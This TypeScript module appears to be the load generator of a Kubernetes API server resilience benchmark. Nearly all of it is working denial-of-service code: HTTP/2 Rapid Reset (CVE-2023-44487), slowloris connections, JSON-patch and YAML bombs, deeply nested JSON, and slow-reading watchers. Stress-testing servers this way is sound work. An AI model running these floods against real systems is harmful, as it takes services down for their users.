/**
 * A thread that floods the server with one kind of request until it is terminated. It has its own event loop, so that it
 * does not delay the clients whose latency is measured. Requests that the server rejects, closes or never answers are
 * repeated; how the server defends itself is not checked.
 */
import { once } from 'node:events';
import http2 from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { parentPort, workerData } from 'node:worker_threads';
import { connect, Connection, requestBytes, type Target } from './http.ts';

export interface FloodWork {
  readonly flood: FloodName;
  readonly target: Target;
  /** A namespace with large objects. */
  readonly namespace: string;
}

const { flood, target, namespace } = workerData as FloodWork;
const CONFIG_MAPS = `/api/v1/namespaces/${namespace}/configmaps`;
const PODS = `/api/v1/namespaces/${namespace}/pods`;
/** Pause of a rejected client. */
const BACKOFF_MS = 50;
const MiB = 2 ** 20;

/** Repeats the same request over one connection; reconnects when it closes. */
async function repeat(request: Buffer): Promise<never> {
  for (;;) {
    try {
      using connection = await Connection.open(target);
      for (;;) await connection.send(request);
    } catch {
      await delay(BACKOFF_MS);
    }
  }
}

const together = (count: number, client: (index: number) => Promise<unknown>): Promise<unknown> =>
  Promise.all(Array.from({ length: count }, (_, index) => client(index)));

/** Connects and sends a request; `read` decides how the response is read, if at all. */
async function unread(request: Buffer, read: (socket: TLSSocket) => Promise<void>): Promise<never> {
  for (;;) {
    const socket = connect(target, () => socket.write(request));
    socket.on('error', () => socket.destroy());
    socket.pause();
    const closed = once(socket, 'close');
    await Promise.race([closed, read(socket)]);
    socket.destroy();
    await delay(BACKOFF_MS);
  }
}

const never = (): Promise<void> => new Promise(() => undefined);

const WATCHERS = 50;
const LARGE_VALUE_BYTES = 64 * 1024;

/** Watchers that never read, while one client changes a large object as fast as it can. */
async function slowWatchers(): Promise<unknown> {
  const watch = requestBytes(target, 'GET', `${CONFIG_MAPS}?watch=true`);
  const change = async (): Promise<never> => {
    for (let round = 0; ; round++) {
      try {
        using connection = await Connection.open(target);
        for (; ; round++) {
          const body = JSON.stringify({ data: { round: String(round), large: 'x'.repeat(LARGE_VALUE_BYTES) } });
          const type = 'application/merge-patch+json';
          await connection.send(requestBytes(target, 'PATCH', `${CONFIG_MAPS}/changing`, body, type));
        }
      } catch {
        await delay(BACKOFF_MS);
      }
    }
  };
  return Promise.all([together(WATCHERS, () => unread(watch, never)), change()]);
}

const RESET_SESSIONS = 4;
const RESETS_TOGETHER = 100;

/** Lists over HTTP/2 that are reset before they are answered (CVE-2023-44487). */
const rapidReset = (): Promise<unknown> =>
  together(RESET_SESSIONS, async () => {
    for (;;) {
      const session = http2.connect(`https://${target.host}:${target.port}`, { rejectUnauthorized: false });
      session.on('error', () => session.destroy());
      while (!session.closed && !session.destroyed) {
        for (let stream = 0; stream < RESETS_TOGETHER && !session.closed && !session.destroyed; stream++) {
          const asked = session.request({ ':path': PODS, authorization: `Bearer ${target.token}` });
          asked.on('error', () => undefined);
          asked.close(http2.constants.NGHTTP2_CANCEL);
        }
        await new Promise((resume) => setImmediate(resume));
      }
      await delay(BACKOFF_MS);
    }
  });

const IDLE_CONNECTIONS = 2_000;
const DRIPPING_CONNECTIONS = 200;
const HANDSHAKES_TOGETHER = 20;
const DRIP_MS = 1_000;

/** Idle connections, some of which send one byte of a header per second. */
async function idleConnections(): Promise<unknown> {
  const open = async (index: number): Promise<void> => {
    const socket = connect(target, () => undefined);
    socket.on('error', () => socket.destroy());
    await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]);
    if (index >= DRIPPING_CONNECTIONS) return;
    socket.write('GET /api/v1/pods HTTP/1.1\r\nHost: x\r\nX-Slow: ');
    const drip = setInterval(() => socket.write('x'), DRIP_MS);
    socket.once('close', () => clearInterval(drip));
  };
  let next = 0;
  await together(HANDSHAKES_TOGETHER, async () => {
    while (next < IDLE_CONNECTIONS) await open(next++);
  });
  return never();
}

const BOMBS_TOGETHER = 4;
const JSON_PATCH_DOUBLINGS = 16;

/** A JSON patch of operations that each double the object. */
function jsonPatchBomb(): Promise<unknown> {
  const start = { op: 'add', path: '/data/a', value: 'x'.repeat(64 * 1024) };
  const copies = Array.from({ length: 2_000 }, (_, index) => ({
    op: 'copy',
    from: '/data/a',
    path: `/data/b${index}`,
  }));
  const doublings = Array.from({ length: JSON_PATCH_DOUBLINGS }, (_, index) => ({
    op: 'copy',
    from: '/data',
    path: `/data/c${index}`,
  }));
  const body = JSON.stringify([start, ...copies, ...doublings]);
  const type = 'application/json-patch+json';
  return together(BOMBS_TOGETHER, () => repeat(requestBytes(target, 'PATCH', `${CONFIG_MAPS}/changing`, body, type)));
}

const REPEATED_KEYS = 20_000;

function yamlKeys(): Promise<unknown> {
  const body = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: keys}\ndata:\n${'  key: value\n'.repeat(REPEATED_KEYS)}`;
  const request = requestBytes(target, 'POST', `${CONFIG_MAPS}?dryRun=All`, body, 'application/yaml');
  return together(BOMBS_TOGETHER, () => repeat(request));
}

function deepJson(): Promise<unknown> {
  const deep = (3 * MiB - 200) / 6;
  const body = `{"apiVersion":"v1","kind":"ConfigMap","x":${'{"a":'.repeat(deep)}1${'}'.repeat(deep)}}`;
  const request = requestBytes(target, 'POST', `${CONFIG_MAPS}?dryRun=All`, body);
  return together(BOMBS_TOGETHER, () => repeat(request));
}

const SLOW_READERS = 400;
const READ_MS = 250;

/** Long lists that are read slowly. */
const slowLists = (): Promise<unknown> =>
  together(SLOW_READERS, () =>
    unread(requestBytes(target, 'GET', PODS), async (socket) => {
      for (;;) {
        await delay(READ_MS);
        socket.read();
      }
    }),
  );

const ANONYMOUS_CLIENTS = 32;

/** Half of the requests with an invalid token, half without one. */
const anonymous = (): Promise<unknown> =>
  together(ANONYMOUS_CLIENTS, (index) => {
    const header = index % 2 ? 'Authorization: Bearer not-a-token\r\n' : '';
    return repeat(Buffer.from(`GET ${PODS} HTTP/1.1\r\nHost: x\r\n${header}Accept: application/json\r\n\r\n`));
  });

const FLOODS = {
  slowWatchers,
  rapidReset,
  idleConnections,
  jsonPatchBomb,
  yamlKeys,
  deepJson,
  slowLists,
  anonymous,
} as const;
export type FloodName = keyof typeof FLOODS;

if (parentPort) await FLOODS[flood]();
